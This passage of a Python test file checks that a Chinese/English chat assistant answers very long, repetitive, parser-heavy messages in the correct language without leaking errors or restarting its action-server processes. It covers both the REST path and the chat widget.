    (language, (fragment * (MAX_CHARS // len(fragment) + 1))[:MAX_CHARS])
    for language, fragments in _PARSER_FRAGMENTS.items()
    for fragment in fragments
] + [
    ("zh", ("11月24日 15:32 扣了128块5 终端号1029-3847，" * 80)[:MAX_CHARS]),
    ("en", ("charged 128.50 yuan on nov 24 at 3:15pm, tid A1B2C3D4. " * 60)[:MAX_CHARS]),
    ("zh", "11月24日" * 7),
]


def _action_servers(assistant: Client) -> dict[str, int]:
    return {name: pid for name, pid in assistant.processes.pids().items() if name.startswith("actions")}


def test_parser_heavy_messages_over_rest_are_answered_and_no_process_restarts(assistant: Client) -> None:
    before = _action_servers(assistant)
    assert before
    for language, text in PARSER_HEAVY:
        sender = assistant.new_sender()
        # Once as a first message, once as the answer to the question it drew (the parsers' other mode).
        for _ in range(2):
            replies = assistant.say(sender, text, metadata={"language": language})
        said = [r["text"] for r in replies if r.get("text")]
        assert said, (language, text[:40])
        assert all(reply_language(t) == language for t in said), (text[:40], said)
        assert not any(_LEAKED_ERROR.search(t) for t in said), said
    assert _action_servers(assistant) == before


async def test_parser_heavy_messages_through_the_widget_are_answered(gateway: str, assistant: Client) -> None:
    before = _action_servers(assistant)
    for language in ("zh", "en"):
        chat, _ = await ChatSocket.open(gateway, language=language)
        try:
            for text_language, text in PARSER_HEAVY:
                if text_language != language:
                    continue
                frames = await _send_message(chat, text, language)
                assert frames[-1]["type"] == "ack", frames
                said = bot_texts(frames)
                assert said and all(reply_language(t) == language for t in said), (text[:40], said)
        finally:
            await chat.close()
    assert _action_servers(assistant) == before
